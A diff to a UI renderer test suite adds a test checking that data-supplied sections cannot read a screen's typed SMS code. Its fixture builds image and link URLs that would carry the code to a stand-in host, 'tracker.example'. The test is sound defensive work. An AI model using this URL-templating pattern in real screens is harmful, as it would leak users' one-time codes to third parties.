@@ -68,6 +68,56 @@ describe('nodes from the data', () => {
     expect(screen.getByText('Close')).toBeTruthy();
   });
 
+  it('read no state the screen declares: a picture or a link never carries what is typed', async () => {
+    vi.spyOn(console, 'warn').mockImplementation(() => {});
+    const typed = (name: string) => ({ bind: `/state/${name}` });
+    renderScreen(
+      [
+        { type: 'include', nodes: '/sections' },
+        { type: 'input', state: 'smsCode', label: 'SMS code', format: 'digits', maxLength: 6 },
+      ],
+      {
+        sections: [
+          {
+            type: 'image',
+            alt: 'Offer',
+            src: {
+              template: 'https://tracker.example/p.png?c={code}',
+              params: { code: typed('smsCode') },
+            },
+          },
+          {
+            type: 'link',
+            text: 'Help',
+            action: {
+              type: 'openUrl',
+              url: {
+                template: 'https://tracker.example/h?c={code}',
+                params: { code: typed('smsCode') },
+              },
+            },
+          },
+          {
+            type: 'text',
+            text: { template: 'Code: [{code}]', params: { code: typed('smsCode') } },
+          },
+          { type: 'button', text: 'Note', action: { type: 'set', state: 'note', value: 'seen' } },
+          { type: 'text', text: { template: 'Note: [{note}]', params: { note: typed('note') } } },
+        ],
+      },
+      { state: { smsCode: '' } },
+    );
+    fireEvent.change(await screen.findByRole('textbox', { name: 'SMS code' }), {
+      target: { value: '123456' },
+    });
+    fireEvent.click(screen.getByRole('button', { name: 'Note' }));
+    expect(screen.getByRole('img', { name: 'Offer' }).getAttribute('src')).not.toContain('123456');
+    expect(screen.getByRole('link', { name: 'Help' }).getAttribute('href')).not.toContain('123456');
+    expect(screen.getByText('Code: []')).toBeTruthy();
+    // Their own state they read as ever.
+    expect(screen.getByText('Note: [seen]')).toBeTruthy();
+  });
+
   it('the same nodes in a shipped layout keep every action', () => {
     const { actions } = renderScreen(sections.slice(4));
     fireEvent.click(screen.getByRole('link', { name: 'Native page' }));
